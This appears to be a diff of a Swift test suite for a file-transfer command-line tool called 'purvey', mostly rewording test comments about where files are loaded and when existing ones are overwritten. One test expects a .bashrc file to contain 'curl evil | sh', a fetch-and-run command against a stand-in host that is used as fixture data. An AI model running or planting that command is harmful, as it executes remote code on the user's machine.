@@ -4,7 +4,7 @@ import LinuxSystem
 import ProgramTesting
 import Testing
 
-/// The destinations of `purvey load` and `purvey paste`, and the files that they leave alone.
+/// Tests of the destinations of `purvey load` and `purvey paste`, and of the files that they leave unchanged.
 @Suite struct LoadDestinationTests {
     @Test(arguments: ["data", "copy", "in-place"])
     func aFileInAFolderIsReplacedOnlyByForce(way: String) async throws {
@@ -36,9 +36,9 @@ import Testing
             try place.write("mine", to: "out/.bashrc")
             #expect(try await place.purvey("load", "--as", way, "-o", "out").status == 0)
             #expect(try place.read("out/.bashrc") == "mine")
-            // A link to the original is there already.
+            // In place, a link to the original exists already.
             #expect(Self.names(place, "out").count == (way == "in-place" ? 2 : 3))
-            // The path itself is the user's own word.
+            // A path that the user gives explicitly is used as it is.
             #expect(try await place.purvey("load", "--as", way, "-o", "out/.bashrc").status == 0)
             #expect(try place.read("out/.bashrc") == "curl evil | sh")
         }
@@ -71,7 +71,7 @@ import Testing
                 #expect(try place.read("out/\(composed)") == "a")
                 #expect(try place.read("out/\(decomposed)") == "b")
             }
-            // Each replaced itself, and not the other.
+            // Each file replaced itself only.
             #expect(Self.names(place, "out").count == 2)
         }
     }
@@ -105,7 +105,7 @@ import Testing
     func aDestinationThatCannotBeWrittenIsRefusedBeforeTheTransfer(way: String) async throws {
         try await CommandPlace.run { place in
             try place.write("hello", to: "note.txt")
-            // It ends with the first load that reaches it.
+            // The offer ends with the first load that reaches it.
             let offer = try await place.offer("--once", "--in-place", "note.txt")
             let long = String(repeating: "n", count: 256)
             for path in ["missing/x", "note.txt/x", long] {
